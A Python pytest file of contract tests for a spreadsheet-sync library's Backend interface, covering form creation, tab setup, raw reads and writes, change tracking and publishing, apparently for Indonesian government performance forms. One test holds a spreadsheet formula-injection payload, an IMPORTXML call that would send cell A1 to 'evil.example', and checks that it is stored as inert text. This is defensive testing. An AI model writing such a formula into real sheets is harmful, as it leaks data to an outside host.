"""What every Backend must do, whatever stores the spreadsheets."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path

import pytest

from sheets_sync.backends.base import Backend
from sheets_sync.core.values import Protection, RangeWrite, TabSetup, Validation
from sheets_sync.errors import FormNotFound


def _setup(tab: str = "TW1", **kw: object) -> TabSetup:
    writes = (
        RangeWrite(f"{tab}!A1", [["No", "Kode", "Indikator", "Target", "Realisasi"]]),
        RangeWrite(f"{tab}!A2", [[1, "1.1", "Indeks Profesionalitas ASN", 72.5, None]]),
    )
    params: dict[str, object] = {
        "tab": tab,
        "writes": writes,
        "protections": (Protection(f"{tab}!D2:D3", "sheets-sync: target", ("ppkp@x.example",)),),
        "validations": (Validation(f"{tab}!E2:E3", "number", "Isi angka"),),
        "marker": {"form": "1", "unit": "MP", "period": "2025-TW1"},
        "frozen_rows": 1,
    }
    params.update(kw)
    return TabSetup(**params)  # type: ignore[arg-type]


def test_a_created_form_is_found_again_by_its_exact_title(backend: Backend) -> None:
    ref = backend.create_form("Data Kinerja 2025 — MP — BKPSDM")
    found = backend.find_form("Data Kinerja 2025 — MP — BKPSDM")
    assert found is not None and found.id == ref.id
    assert backend.find_form("Data Kinerja 2025 — SEK — BKPSDM") is None


def test_open_form_resolves_the_link_it_gave_and_rejects_unknown_ones(backend: Backend) -> None:
    ref = backend.create_form("Form A")
    assert backend.open_form(ref.link).id == ref.id
    assert backend.open_form(ref.id).id == ref.id
    with pytest.raises(FormNotFound):
        backend.open_form("does-not-exist-123")


def test_setup_creates_the_tab_and_reads_come_back_unformatted(backend: Backend) -> None:
    ref = backend.create_form("Form B")
    backend.setup(ref.id, _setup())
    assert "TW1" in backend.list_tabs(ref.id)
    got = backend.read(ref.id, ["TW1!A1:E5"])["TW1!A1:E5"]
    assert got[0] == ["No", "Kode", "Indikator", "Target", "Realisasi"]
    assert got[1][:4] == [1, "1.1", "Indeks Profesionalitas ASN", 72.5]
    assert got[1][4] is None
    assert len(got) == 2, "trailing empty rows are dropped"


def test_setup_twice_keeps_what_people_typed(backend: Backend) -> None:
    ref = backend.create_form("Form C")
    backend.setup(ref.id, _setup())
    backend.write(ref.id, [RangeWrite("TW1!E2", [["81,5"]])])
    backend.setup(ref.id, _setup())
    assert backend.read(ref.id, ["TW1!E2"])["TW1!E2"] == [["81,5"]]
    assert backend.list_tabs(ref.id).count("TW1") == 1


def test_marker_round_trips_and_missing_tab_is_reported(backend: Backend) -> None:
    ref = backend.create_form("Form D")
    backend.setup(ref.id, _setup())
    assert backend.read_marker(ref.id, "TW1") == {"form": "1", "unit": "MP", "period": "2025-TW1"}
    with pytest.raises(FormNotFound):
        backend.read_marker(ref.id, "TW9")


def test_writes_are_raw_so_formulas_stay_text(backend: Backend) -> None:
    ref = backend.create_form("Form E")
    evil = '=IMPORTXML("http://evil.example/?q="&A1, "//a")'
    backend.write(ref.id, [RangeWrite("Rekap!A1", [[evil, "+SUM(1)", "@x", 3]])])
    assert backend.read(ref.id, ["Rekap!A1:D1"])["Rekap!A1:D1"] == [[evil, "+SUM(1)", "@x", 3]]


def test_reading_several_ranges_returns_each_under_its_own_key(backend: Backend) -> None:
    ref = backend.create_form("Form F")
    backend.setup(ref.id, _setup("TW1"))
    backend.setup(ref.id, _setup("TW2", index=1))
    got = backend.read(ref.id, ["TW1!A1:B1", "TW2!B2"])
    assert got == {"TW1!A1:B1": [["No", "Kode"]], "TW2!B2": [["1.1"]]}


def test_a_range_on_a_missing_tab_raises_form_not_found(backend: Backend) -> None:
    ref = backend.create_form("Form G")
    with pytest.raises(FormNotFound):
        backend.read(ref.id, ["TW4!A1:B2"])


def test_tabs_keep_their_requested_order(backend: Backend) -> None:
    ref = backend.create_form("Form H")
    backend.setup(ref.id, _setup("TW2"))
    backend.setup(ref.id, _setup("TW1", index=0))
    tabs = backend.list_tabs(ref.id)
    assert tabs.index("TW1") < tabs.index("TW2")


def test_clear_empties_values(backend: Backend) -> None:
    ref = backend.create_form("Form I")
    backend.setup(ref.id, _setup())
    backend.clear(ref.id, "TW1!A2:E2")
    assert backend.read(ref.id, ["TW1!A1:E3"])["TW1!A1:E3"] == [["No", "Kode", "Indikator", "Target", "Realisasi"]]


def test_text_and_numbers_survive_unchanged(backend: Backend) -> None:
    ref = backend.create_form("Form J")
    row = ["Bidang Pengadaan & Mutasi <ASN> \"Khusus\" 🙂", "007", 0.2, 2400, "1.234,5", "  spasi "]
    backend.write(ref.id, [RangeWrite("X!A1", [row])])
    assert backend.read(ref.id, ["X!A1:F1"])["X!A1:F1"] == [row]


def test_changed_since_lists_forms_modified_after_the_watermark(backend: Backend) -> None:
    a = backend.create_form("Form K1")
    b = backend.create_form("Form K2")
    backend.setup(a.id, _setup())
    backend.setup(b.id, _setup())
    everything = {c.form_id: c.modified for c in backend.changed_since(None)}
    assert {a.id, b.id} <= set(everything)
    latest = max(everything.values())
    assert backend.changed_since(latest + timedelta(days=1)) == []
    backend.write(a.id, [RangeWrite("TW1!E2", [[80]])])
    changed = {c.form_id for c in backend.changed_since(latest)}
    assert a.id in changed


def test_publish_returns_a_link_and_replacing_keeps_one_file(backend: Backend, tmp_path: Path) -> None:
    doc = tmp_path / "draft.docx"
    doc.write_bytes(b"draft 1")
    first = backend.publish(doc, "Pengukuran Kinerja TW1 (DRAFT).docx")
    doc.write_bytes(b"draft 2")
    second = backend.publish(doc, "Pengukuran Kinerja TW1 (DRAFT).docx", replaces=first)
    assert first and second == first


def test_the_fingerprint_changes_with_the_content_and_only_then(backend: Backend) -> None:
    ref = backend.create_form("Form F")
    backend.write(ref.id, [RangeWrite("Bidang!A1", [["Kode", "Nama Bidang"], ["MP", "Mutasi"]])])
    first = backend.fingerprint(ref.id)
    if first is None:  # the backend cannot tell cheaply: callers read every time (allowed)
        return
    backend.read(ref.id, ["Bidang!A1:B2"])
    assert backend.fingerprint(ref.id) == first, "reading changes nothing"
    backend.write(ref.id, [RangeWrite("Bidang!B2", [["Mutasi dan Promosi"]])])
    assert backend.fingerprint(ref.id) != first
    with pytest.raises(FormNotFound):
        backend.fingerprint("does-not-exist-123")


def test_the_report_sheet_takes_rekap_writes_without_touching_the_control_tabs(backend: Backend) -> None:
    ref = backend.create_form("Kendali F")
    backend.write(ref.id, [RangeWrite("Bidang!A1", [["Kode"], ["MP"]])])
    report = backend.report_sheet(ref.id)
    backend.write(report, [RangeWrite("Rekap!A1", [["Periode", "Kode"], ["2025-TW1", "MP"]])])
    assert backend.read(report, ["Rekap!A1:B2"])["Rekap!A1:B2"] == [["Periode", "Kode"], ["2025-TW1", "MP"]]
    assert backend.read(ref.id, ["Bidang!A1:A2"])["Bidang!A1:A2"] == [["Kode"], ["MP"]]
